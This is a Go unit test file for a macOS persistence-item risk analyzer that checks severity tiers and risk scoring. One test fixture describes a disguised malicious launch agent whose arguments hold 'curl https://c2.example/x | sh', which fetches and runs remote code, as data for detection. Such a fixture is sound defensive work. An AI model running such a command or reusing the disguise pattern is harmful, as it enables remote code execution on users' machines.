package analyzers

import (
	"testing"
	"time"

	"baize/internal/models"
)

func TestTier_Bands(t *testing.T) {
	tests := []struct {
		score int
		want  models.Severity
	}{
		{0, models.SeverityLow},
		{29, models.SeverityLow},
		{30, models.SeverityMedium},
		{59, models.SeverityMedium},
		{60, models.SeverityHigh},
		{79, models.SeverityHigh},
		{80, models.SeverityCritical},
		{100, models.SeverityCritical},
	}
	for _, tt := range tests {
		if got := Tier(tt.score); got != tt.want {
			t.Errorf("Tier(%d) = %s, want %s", tt.score, got, tt.want)
		}
	}
}

func TestAnalyze_EmptyItemDoesNotPanic(t *testing.T) {
	res := Analyze(&models.PersistenceItem{}, time.Now())
	if res == nil {
		t.Fatal("expected analysis result")
	}
	if res.RiskScore < 0 || res.RiskScore > 100 {
		t.Errorf("score out of range: %d", res.RiskScore)
	}
}

func TestAnalyze_TrustedItemLow(t *testing.T) {
	item := &models.PersistenceItem{
		Name:           "com.vendor.sync",
		ExecutablePath: "/Applications/Vendor.app/Contents/MacOS/sync",
		ParentAppPath:  "/Applications/Vendor.app",
		Trust: models.TrustInfo{
			Signed: true, SignatureValid: true, Notarized: true, HardenedRuntime: true,
		},
	}
	res := Analyze(item, time.Now())
	if res.RiskTier != models.SeverityLow {
		t.Errorf("tier = %s (score %d, factors %v), want low", res.RiskTier, res.RiskScore, res.RiskFactors)
	}
}

func TestAnalyze_MaliciousProfileCritical(t *testing.T) {
	now := time.Date(2026, 8, 1, 16, 0, 0, 0, time.Local)
	item := &models.PersistenceItem{
		Name:           "com.apple.systemhelper",
		Category:       models.CategoryLaunchAgent,
		ExecutablePath: "/tmp/.x/agent",
		Launch: models.LaunchConfig{
			RunAtLoad: true,
			KeepAlive: true,
			Arguments: []string{"/bin/bash", "-c", "curl https://c2.example/x | sh"},
		},
		PlistCreated:  ts(now.AddDate(0, 0, -60)),
		BinaryCreated: ts(now.AddDate(0, 0, -1)),
	}
	res := Analyze(item, now)
	if res.RiskScore != 100 {
		t.Errorf("score = %d, want clamped 100", res.RiskScore)
	}
	if res.RiskTier != models.SeverityCritical {
		t.Errorf("tier = %s, want critical", res.RiskTier)
	}
	if len(res.RiskFactors) == 0 {
		t.Error("expected risk factors")
	}
	if res.LOLBinPoints == 0 || len(res.BehaviorFindings) == 0 || len(res.AgeFindings) == 0 {
		t.Error("expected contributions from lolbin, behavior and age analyzers")
	}
}

func TestAnalyze_ScoreClamped(t *testing.T) {
	res := Analyze(&models.PersistenceItem{}, time.Now())
	if res.RiskScore > 100 || res.RiskScore < 0 {
		t.Errorf("score %d outside [0,100]", res.RiskScore)
	}
}
